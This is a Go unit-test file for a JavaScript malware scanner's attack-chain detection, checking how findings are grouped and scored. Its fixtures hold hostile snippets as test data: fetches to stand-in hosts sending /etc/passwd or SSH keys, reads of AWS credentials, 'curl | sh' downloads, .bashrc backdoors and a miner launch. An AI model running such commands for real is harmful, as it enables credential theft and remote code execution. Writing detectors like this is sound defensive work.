package reporting

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/xkilldash9x/jsguard/internal/analysis/static/javascript"
	"github.com/xkilldash9x/jsguard/internal/analysis/static/textscan"
)

func hit(file string, issue javascript.IssueType, sev javascript.Severity, snippet string) javascript.Finding {
	return javascript.Finding{
		Location:  javascript.Location{File: file, Line: 1, Column: 1},
		IssueType: issue,
		Severity:  sev,
		Snippet:   snippet,
	}
}

func chainTypes(chains []Chain) []ChainType {
	out := []ChainType{}
	for _, c := range chains {
		out = append(out, c.Type)
	}
	return out
}

func TestDetectChains(t *testing.T) {
	warn, crit := javascript.SeverityWarning, javascript.SeverityCritical

	tests := []struct {
		name     string
		findings []javascript.Finding
		want     []ChainType
	}{
		{
			name: "data exfiltration",
			findings: []javascript.Finding{
				hit("a.js", textscan.IssueNetworkRequest, warn, "fetch('https://collector.test/c', { body })"),
				hit("a.js", textscan.IssueSensitiveAccess, warn, "const body = fs.readFileSync('/etc/passwd')"),
			},
			want: []ChainType{ChainDataExfiltration},
		},
		{
			name: "credential theft without network",
			findings: []javascript.Finding{
				hit("a.js", textscan.IssueSensitiveAccess, warn, "fs.writeFile('/tmp/k', fs.readFileSync('~/.aws/credentials'))"),
			},
			want: []ChainType{ChainCredentialTheft},
		},
		{
			name: "credential theft with network also exfiltrates",
			findings: []javascript.Finding{
				hit("a.js", textscan.IssueSensitiveAccess, warn, "const key = fs.readFileSync(home + '/.ssh/id_rsa')"),
				hit("a.js", textscan.IssueNetworkRequest, warn, "fetch('https://collector.test/k', { body: key })"),
			},
			want: []ChainType{ChainDataExfiltration, ChainCredentialTheft},
		},
		{
			name: "remote code execution",
			findings: []javascript.Finding{
				hit("a.js", textscan.IssueCommandExecution, warn, "execSync('curl -s https://x.test/p.sh | sh')"),
			},
			want: []ChainType{ChainRemoteCodeExecution},
		},
		{
			name: "backdoor",
			findings: []javascript.Finding{
				hit("a.js", textscan.IssueCommandExecution, warn, "execSync('echo payload >> ~/.bashrc')"),
				hit("a.js", textscan.IssueNetworkRequest, warn, "fetch('https://c2.test/cmd')"),
			},
			want: []ChainType{ChainBackdoor},
		},
		{
			name: "cryptomining",
			findings: []javascript.Finding{
				hit("a.js", textscan.IssueCommandExecution, warn, "spawn('nohup', ['./xmrig', '--mining'], { detached: true })"),
				hit("a.js", textscan.IssueNetworkRequest, warn, "fetch('https://pool.test/job')"),
			},
			want: []ChainType{ChainCryptomining},
		},
		{
			name: "eval with obfuscation",
			findings: []javascript.Finding{
				hit("a.js", textscan.IssueObfuscation, warn, `var _0x = '\x68\x65\x6c\x6c\x6f...'`),
				hit("a.js", javascript.IssueEvalUsage, crit, "eval(_0x)"),
			},
			want: []ChainType{ChainObfuscation},
		},
		{
			name: "heavy obfuscation alone",
			findings: []javascript.Finding{
				hit("a.js", textscan.IssueObfuscation, warn, `'\x61...'`),
				hit("a.js", textscan.IssueObfuscation, warn, `'\x62...'`),
				hit("a.js", textscan.IssueObfuscation, warn, `'\x63...'`),
			},
			want: []ChainType{ChainObfuscation},
		},
		{
			name: "signals in different files do not combine",
			findings: []javascript.Finding{
				hit("a.js", textscan.IssueNetworkRequest, warn, "fetch('https://collector.test/c')"),
				hit("b.js", textscan.IssueSensitiveAccess, warn, "fs.readFileSync('/etc/passwd')"),
			},
			want: []ChainType{},
		},
		{
			name:     "plain findings",
			findings: findingsOf(javascript.SeverityCritical, javascript.SeverityWarning),
			want:     []ChainType{},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, chainTypes(DetectChains(tt.findings)))
		})
	}
}

func TestDataExfiltrationEscalatesWithEncoding(t *testing.T) {
	base := []javascript.Finding{
		hit("a.js", textscan.IssueNetworkRequest, javascript.SeverityWarning, "fetch('https://collector.test/c', { body })"),
		hit("a.js", textscan.IssueSensitiveAccess, javascript.SeverityWarning, "const body = fs.readFileSync('/etc/passwd')"),
	}

	plain := DetectChains(base)
	require.Len(t, plain, 1)
	assert.Equal(t, javascript.SeverityWarning, plain[0].Severity)
	assert.Equal(t, 75, plain[0].RiskScore)
	assert.Len(t, plain[0].Evidence, 2)

	encoded := DetectChains(append(base,
		hit("a.js", textscan.IssueDynamicRequire, javascript.SeverityWarning, "require(btoa(name) + '.js')")))
	require.Len(t, encoded, 1)
	assert.Equal(t, javascript.SeverityCritical, encoded[0].Severity)
	assert.Equal(t, 100, encoded[0].RiskScore)
	assert.Equal(t, "Uses encoding/obfuscation", encoded[0].Evidence[0])
}

func TestDetectChainsFileOrder(t *testing.T) {
	findings := []javascript.Finding{
		hit("z.js", textscan.IssueCommandExecution, javascript.SeverityWarning, "execSync('wget https://x.test/a && sh a')"),
		hit("a.js", textscan.IssueCommandExecution, javascript.SeverityWarning, "execSync('curl https://x.test/b | sh')"),
	}
	chains := DetectChains(findings)
	require.Len(t, chains, 2)
	assert.Equal(t, "z.js", chains[0].File)
	assert.Equal(t, "a.js", chains[1].File)
}

func TestSummarizeAddsChainScores(t *testing.T) {
	s := Summarize([]javascript.Finding{
		hit("a.js", textscan.IssueCommandExecution, javascript.SeverityWarning, "execSync('echo payload >> ~/.bashrc')"),
		hit("a.js", textscan.IssueNetworkRequest, javascript.SeverityWarning, "fetch('https://c2.test/cmd')"),
	})
	require.Len(t, s.Chains, 1)
	assert.Equal(t, 2*warningWeight+90, s.RiskScore)
	assert.Equal(t, RiskCritical, s.RiskLevel)

	assert.NotNil(t, Summarize(nil).Chains)
}
